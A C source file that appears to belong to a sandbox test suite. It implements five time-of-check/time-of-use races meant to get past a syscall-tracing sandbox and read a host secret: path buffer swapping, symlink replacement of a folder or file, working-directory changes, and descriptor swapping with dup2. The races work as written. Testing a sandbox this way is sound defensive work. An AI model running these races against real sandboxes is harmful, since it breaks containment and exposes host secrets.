// Changes a path, or what it names, after a tracer has read it and before the kernel does.
#include "probe.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

// How long each race is run: see programs.ts.
#ifndef RACE_MS
#define RACE_MS 500
#endif

static atomic_bool over;

static bool in_time(struct timespec since) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return (now.tv_sec - since.tv_sec) * 1000 + (now.tv_nsec - since.tv_nsec) / 1000000 < RACE_MS;
}

// Opens a path again and again while a second thread changes it; the content shows who won.
static int race(void *(*bend)(void *), void *argument, const char *path) {
  struct timespec start;
  pthread_t helper;
  int answer = ETIMEDOUT;
  clock_gettime(CLOCK_MONOTONIC, &start);
  if (pthread_create(&helper, NULL, bend, argument)) return EAGAIN;
  while (answer != REACHED && in_time(start)) answer = read_secret(path);
  over = true;
  pthread_join(helper, NULL);
  return answer;
}

// The path's buffer contains one path, then the other.
static void *swap_buffer(void *buffer) {
  while (!over) {
    strcpy(buffer, host.secret);
    strcpy(buffer, "/etc/marker");
  }
  return NULL;
}

static int try_buffer(void) {
  static char path[4096];
  strcpy(path, "/etc/marker");
  return race(swap_buffer, path, path);
}

// A link to the host's folder replaces a folder of the job's own: the tracer resolved a folder, but
// the kernel follows a link.
static void *swap_folder(void *unused) {
  (void)unused;
  while (!over) {
    rename("race/now", "race/folder"), rename("race/link", "race/now");
    rename("race/now", "race/link"), rename("race/folder", "race/now");
  }
  return NULL;
}

static void write_file(const char *path) {
  int fd = open(path, O_WRONLY | O_CREAT, 0600);
  if (write(fd, "own", 3) == 3) close(fd);
}

static int try_folder(void) {
  mkdir("race", 0700), mkdir("race/now", 0700), write_file("race/now/secret");
  if (symlink(host.folder, "race/link") && errno != EEXIST) return errno;
  return race(swap_folder, NULL, "race/now/secret");
}

// Swaps the last component of the path, which a tracer resolves itself.
static void *swap_file(void *unused) {
  (void)unused;
  while (!over) {
    unlink("swapped"), write_file("swapped");
    unlink("swapped");
    if (symlink(host.secret, "swapped") && over) break;
  }
  return NULL;
}

static int try_file(void) { return race(swap_file, NULL, "swapped"); }

// Both threads share one working directory.
static void *change_folder(void *unused) {
  (void)unused;
  while (!over && chdir("/etc") == 0 && chdir("/") == 0) continue;
  return NULL;
}

static int try_cwd(void) {
  char path[4096];
  snprintf(path, sizeof path, "../../../../../../../../../../../../..%s", host.secret);
  return race(change_folder, NULL, path);
}

// The descriptor at which a path starts names one folder, then another.
static void *swap_descriptor(void *folder) {
  int first = open("/dev/shm", O_PATH), second = open("/", O_PATH);
  while (!over) dup2(first, *(int *)folder), dup2(second, *(int *)folder);
  return NULL;
}

static int try_descriptor(void) {
  int folder = dup(open("/", O_PATH)), answer = ETIMEDOUT;
  char path[4096];
  snprintf(path, sizeof path, "../../../../../../../../../../../../../..%s", host.secret);
  struct timespec start;
  pthread_t helper;
  clock_gettime(CLOCK_MONOTONIC, &start);
  if (pthread_create(&helper, NULL, swap_descriptor, &folder)) return EAGAIN;
  while (answer != REACHED && in_time(start)) {
    int fd = openat(folder, path, O_RDONLY);
    if (fd >= 0 && is_secret(fd)) answer = REACHED;
    close(fd);
  }
  over = true;
  pthread_join(helper, NULL);
  return answer;
}

static const struct attempt rows[] = {
    {"path changed in its buffer", try_buffer},
    {"folder replaced by a link", try_folder},
    {"file replaced by a link", try_file},
    {"working directory changed", try_cwd},
    {"descriptor replaced", try_descriptor},
};
FAMILY(races, rows);
